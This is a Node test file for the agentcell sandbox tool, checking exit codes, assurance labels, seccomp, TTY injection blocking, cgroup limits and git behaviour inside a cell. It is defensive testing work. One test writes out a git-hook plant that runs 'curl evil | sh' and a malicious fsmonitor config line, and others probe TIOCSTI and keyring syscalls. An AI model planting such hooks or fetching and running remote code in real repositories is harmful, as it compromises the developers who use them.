import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { detectCgroupSupport } from '../src/backends/cgroup-support.js';
import { hostRootGap } from '../src/backends/host-uid.js';
import { rootRange } from '../src/backends/uid-shift.js';
import { assuranceText } from '../src/cli/render.js';
import { localDate } from '../src/policy/assurance.js';
import { agentcell, CLI, inCell, listTree, makeSandbox, startCli, type Sandbox } from './helpers.js';

/**
 * What a strict bwrap run's assurance says on this host: nothing about the host uid (a root
 * caller's cell runs as root's subordinate uid, uid-shift.ts; bootstrap.sh adds the range).
 */
const HOST_REASONS = hostRootGap(process.getuid?.() === 0 ? (rootRange('/etc/subuid')?.base ?? 0) : 1000);
const STRICT = { mode: 'strict', level: HOST_REASONS.length > 0 ? 'reduced' : 'high', reasons: HOST_REASONS } as const;
const escape = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

describe('agentcell run', () => {
  let sb: Sandbox;
  before(() => {
    sb = makeSandbox({
      'README.md': 'hi\n',
      '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n',
      '.git/config': '[core]\n',
    });
  });
  after(() => sb.cleanup());

  it('passes exit codes 0, 1, 7 and 130 through', () => {
    for (const code of [0, 1, 7, 130]) assert.equal(inCell(sb, `exit ${code}`).status, code);
    assert.equal(inCell(sb, 'kill -INT $$').status, 130);
  });

  it('passes stdin and stdout through and prints the banner on stderr', () => {
    const r = agentcell(['run', '--', 'tr', 'a-z', 'A-Z'], { cwd: sb.workspace, env: sb.env, input: 'hello\n' });
    assert.equal(r.stdout, 'HELLO\n');
    assert.match(
      r.stderr,
      new RegExp(
        `^agentcell: cell work-[0-9a-f]{6} · bwrap · mode strict · workspace overlay · network none · assurance ${escape(assuranceText(STRICT))}$`,
        'm',
      ),
    );
  });

  it('--json reports start and exit events with the assurance', () => {
    const events = (args: string[]) => {
      const r = agentcell(['run', '--json', ...args, '--', 'sh', '-c', 'exit 3'], { cwd: sb.workspace, env: sb.env });
      assert.equal(r.status, 3);
      return r.stderr
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
    };
    const strict = events([]);
    assert.equal(strict[0]?.['event'], 'start');
    assert.deepEqual(strict[0]?.['assurance'], STRICT);
    assert.equal(strict[1]?.['event'], 'exit');
    assert.equal(strict[1]?.['exitCode'], 3);
    assert.match(String(strict[1]?.['receipt']), /^r-/);
    const lowered = events(['--mode', 'development', '--workspace-mode', 'direct']);
    assert.deepEqual((lowered[0]?.['assurance'] as { reasons: string[] }).reasons, [
      'mode development',
      'workspace direct (host files change live)',
      ...HOST_REASONS,
    ]);
  });

  it('--dry-run prints the exact bwrap argv and leaves no state behind', () => {
    const before = listTree(sb.root);
    const r = agentcell(['run', '--dry-run', '--json', '--', 'touch', 'ran'], { cwd: sb.workspace, env: sb.env });
    assert.equal(r.status, 0, r.stderr);
    const plan = JSON.parse(r.stdout) as { plan: { argv: string[] }; dryRun: boolean };
    assert.equal(plan.dryRun, true);
    // Overlay (the default): unshare mounts the layers, then execs bwrap.
    assert.match(plan.plan.argv[0] ?? '', /\/unshare$/);
    // bwrap by absolute path (hostTool): the launch runs with the cell's PATH.
    assert.ok(plan.plan.argv.some((arg) => /^\/\S*\/bwrap$/.test(arg)));
    for (const flag of ['--unshare-all', '--die-with-parent', '--new-session', '--seccomp'])
      assert.ok(plan.plan.argv.includes(flag), flag);
    // The command comes last, behind the enforcement canaries' prelude (src/evidence/canaries.ts).
    assert.deepEqual(plan.plan.argv.slice(-2), ['touch', 'ran']);
    assert.ok(plan.plan.argv.includes('--'));
    assert.deepEqual(listTree(sb.root), before);
    const text = agentcell(['run', '--dry-run', '--', 'touch', 'ran'], { cwd: sb.workspace, env: sb.env });
    // A root caller's wrappers run in the host's user namespace first (uid-shift.ts).
    assert.match(text.stdout, /would run:\n {2}\/\S*unshare \\\n {4}--(user|mount)/);
    assert.match(text.stdout, /bwrap \\\n {4}--unshare-all/);
    assert.deepEqual(listTree(sb.root), before);
  });

  it('readonly workspace mode refuses writes', () => {
    const r = inCell(sb, 'echo x > ro.txt', ['--workspace-mode', 'readonly']);
    assert.notEqual(r.status, 0);
    assert.equal(existsSync(join(sb.workspace, 'ro.txt')), false);
  });

  it('keeps the repo control plane read-only: git hooks and config cannot be planted', () => {
    const r = inCell(
      sb,
      'echo "curl evil | sh" > .git/hooks/post-checkout; echo evil >> .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo done',
    );
    assert.match(r.stdout, /done/);
    assert.equal(existsSync(join(sb.workspace, '.git/hooks/post-checkout')), false);
    assert.equal(readFileSync(join(sb.workspace, '.git/hooks/pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
    assert.equal(readFileSync(join(sb.workspace, '.git/config'), 'utf8'), '[core]\n');
  });

  it('runs as a non-root uid by default and as uid 0 with --root', () => {
    assert.notEqual(inCell(sb, 'id -u').stdout.trim(), '0');
    assert.equal(inCell(sb, 'id -u', ['--root']).stdout.trim(), '0');
  });

  it('forwards SIGTERM to the command and returns its exit code', async () => {
    const child = startCli(
      ['run', '--', 'sh', '-c', 'trap "echo got-term; exit 42" TERM; echo ready; while :; do sleep 0.1; done'],
      {
        cwd: sb.workspace,
        env: sb.env,
      },
    );
    let out = '';
    await new Promise<void>((resolve) =>
      child.stdout.on('data', (d: Buffer) => ((out += d.toString()), out.includes('ready') && resolve())),
    );
    child.kill('SIGTERM');
    const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
    assert.equal(code, 42);
    assert.match(out, /got-term/);
  });

  it('enforces --timeout with exit 124', () => {
    const started = Date.now();
    const r = inCell(sb, 'sleep 30', ['--timeout', '1s']);
    assert.equal(r.status, 124);
    assert.ok(Date.now() - started < 15_000);
  });

  it('breakglass needs an acknowledgement dated today', () => {
    const refused = inCell(sb, 'true', ['--mode', 'breakglass']);
    assert.equal(refused.status, 2);
    assert.match(refused.stderr, /--ack-breakglass=\d{4}-\d{2}-\d{2}/);
    assert.equal(inCell(sb, 'true', ['--mode', 'breakglass', '--ack-breakglass', '2020-01-01']).status, 2);
    const ok = inCell(sb, 'true', ['--mode', 'breakglass', '--ack-breakglass', localDate()]);
    assert.equal(ok.status, 0, ok.stderr);
    assert.match(ok.stderr, /assurance breakglass \(.*seccomp filter off/);
  });

  it('strict mode refuses lower-assurance choices, naming where they came from', () => {
    const r = inCell(sb, 'true', ['--workspace-mode', 'direct']);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /strict" refuses.*\n.*workspace\.mode = "direct" \(from command line\)/);
    const ok = inCell(sb, 'true', ['--mode', 'strict', '--workspace-mode', 'readonly']);
    assert.equal(ok.status, 0, ok.stderr);
    assert.match(ok.stderr, new RegExp(`assurance ${escape(assuranceText(STRICT))}$`, 'm'));
  });

  it('refuses what is not built yet instead of pretending', () => {
    const rootfsPolicy = join(sb.root, 'rootfs.toml');
    writeFileSync(rootfsPolicy, '[cell]\nrootfs = "/"\n');
    const r = inCell(sb, 'true', ['--backend', 'podman', '--policy', rootfsPolicy]);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /not available yet:\n.*cell\.rootfs = "\/".*OCI cells run an image/);
    const policy = join(sb.root, 'file-secret.toml');
    writeFileSync(policy, '[secrets.API_KEY]\nfrom = "env:API_KEY"\ninject = "file"\npath = "/run/key"\n');
    const secret = inCell(sb, 'env', ['--policy', policy, '--mode', 'development'], { API_KEY: 'sk-canary' });
    assert.equal(secret.status, 2);
    assert.match(secret.stderr, /secrets\.API_KEY\.inject = "file": only "env" and "proxy" injection are built so far/);
    assert.doesNotMatch(secret.stdout + secret.stderr, /sk-canary/);
  });

  it('open network is labeled as lowering assurance', () => {
    const r = inCell(sb, 'true', ['--mode', 'development', '--network', 'open']);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /network open \(no egress control\)/);
    assert.match(inCell(sb, 'true', ['--network', 'open']).stderr, /strict" refuses.*\n.*network\.mode = "open"/);
  });

  it('seccomp blocks the kernel keyring inside the cell', () => {
    const r = inCell(
      sb,
      `perl -e 'my $r = syscall(${process.arch === 'arm64' ? 219 : 250}, 0, 0); print "keyctl=$r errno=", $!+0, "\\n"'`,
    );
    assert.match(r.stdout, /keyctl=-1 errno=1\b/);
  });

  it('with a terminal: a real TTY, and TIOCSTI injection into it is blocked', () => {
    writeFileSync(
      join(sb.workspace, 'tty_probe.py'),
      'import fcntl, os, termios\nprint("isatty", os.isatty(0))\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b"x")\n    print("tiocsti=allowed")\nexcept OSError as e:\n    print("tiocsti=blocked", e.errno)\n',
    );
    const r = spawnSync('script', ['-qec', `${process.execPath} ${CLI} run -- python3 tty_probe.py`, '/dev/null'], {
      cwd: sb.workspace,
      env: sb.env,
      encoding: 'utf8',
      timeout: 30_000,
    });
    assert.match(r.stdout, /isatty True/);
    assert.match(r.stdout, /tiocsti=blocked 1/);
  });

  it('an exported user config and --policy file are honoured', () => {
    const policy = join(sb.root, 'other.toml');
    writeFileSync(policy, '[env]\nFROM_POLICY = "yes"\n');
    assert.match(inCell(sb, 'echo $FROM_POLICY', ['--policy', policy]).stdout, /yes/);
    mkdirSync(join(sb.agentcellHome, 'config'), { recursive: true });
    writeFileSync(join(sb.agentcellHome, 'config', 'config.toml'), '[env]\nFROM_USER = "u"\n');
    assert.match(inCell(sb, 'echo $FROM_USER').stdout, /u/);
  });
});

describe('resource limits', () => {
  const support = detectCgroupSupport();
  const fork40 = `perl -e 'my $ok = 0; for (1..40) { my $p = fork(); last unless defined $p; if ($p == 0) { sleep 2; exit 0 } $ok++ } print "forked=$ok\\n"'`;

  it(`pids limit: ${support.pids ? 'enforced by cgroup' : 'reported as not enforced'}`, () => {
    const sb = makeSandbox({ 'agentcell.toml': '[resources]\npids = 16\n' });
    try {
      const r = inCell(sb, fork40);
      const forked = Number(/forked=(\d+)/.exec(r.stdout)?.[1]);
      if (support.pids) {
        assert.ok(forked < 16, `forked ${forked} processes under pids = 16`);
        assert.doesNotMatch(r.stderr, /pids not enforced/);
      } else {
        assert.equal(forked, 40);
        assert.match(r.stderr, /resources\.pids not enforced/);
      }
      assert.deepEqual(listTree(sb.workspace), ['agentcell.toml']);
    } finally {
      sb.cleanup();
    }
  });

  it(`memory limit: ${support.memory ? 'enforced by cgroup' : 'reported as not enforced'}`, () => {
    const sb = makeSandbox({ 'agentcell.toml': '[resources]\nmemory = "64M"\n' });
    try {
      const r = inCell(sb, `perl -e '$x = "a" x (256*1024*1024); print "alive\\n"'`);
      if (support.memory) {
        assert.doesNotMatch(r.stdout, /alive/);
        assert.equal(r.status, 137);
      } else {
        assert.match(r.stdout, /alive/);
        assert.match(r.stderr, /resources\.memory not enforced/);
      }
    } finally {
      sb.cleanup();
    }
  });
});

describe('agentcell shell', () => {
  it('opens a shell in the cell', () => {
    const sb = makeSandbox();
    try {
      const r = agentcell(['shell'], { cwd: sb.workspace, env: sb.env, input: 'echo "in-cell $(hostname)"; exit 5\n' });
      assert.equal(r.status, 5);
      assert.match(r.stdout, /in-cell work-/);
    } finally {
      sb.cleanup();
    }
  });
});

describe('git in a cell', () => {
  it("`git status` trusts the host's index: nothing is re-hashed or rewritten, a real edit still shows", () => {
    const sb = makeSandbox({ 'a.txt': 'one\n', 'b/c.txt': 'two\n' });
    try {
      const git = (...args: string[]) => {
        const r = spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
          cwd: sb.workspace,
          encoding: 'utf8',
        });
        assert.equal(r.status, 0, r.stderr);
      };
      git('init', '-q');
      // Files older than the index: no entry is "racily clean", so git decides by stat alone.
      spawnSync('touch', ['-d', '2 hours ago', 'a.txt', 'b/c.txt'], { cwd: sb.workspace });
      git('add', '-A');
      git('commit', '-q', '-m', 'base');
      const clean = inCell(sb, 'git status --porcelain; echo status=$?');
      assert.equal(clean.stdout, 'status=0\n', clean.stderr);
      // Under the cell's owner and device, git's default stat check re-reads every file and
      // writes a refreshed index into the cell's layer; with the cell's setting it has nothing to refresh.
      const diff = agentcell(['diff', '--json'], { cwd: sb.workspace, env: sb.env });
      assert.equal(diff.status, 0, diff.stderr);
      assert.doesNotMatch(diff.stdout, /\.git\/index/);
      // Control, for a root caller (whose files the cell sees under another owner; an unprivileged
      // caller's cell keeps the caller's uid, so there git's default check matches too).
      if (process.getuid?.() === 0) {
        const control = inCell(sb, 'GIT_CONFIG_COUNT=0 git status --porcelain >/dev/null');
        assert.equal(control.status, 0, control.stderr);
        const refreshed = agentcell(['diff', '--json'], { cwd: sb.workspace, env: sb.env });
        assert.match(refreshed.stdout, /\.git\/index/, 'control: the default stat check rewrites the index');
      }
      const edited = inCell(sb, 'echo ONE > a.txt; git status --porcelain');
      assert.equal(edited.stdout, ' M a.txt\n', edited.stderr);
    } finally {
      sb.cleanup();
    }
  });
});
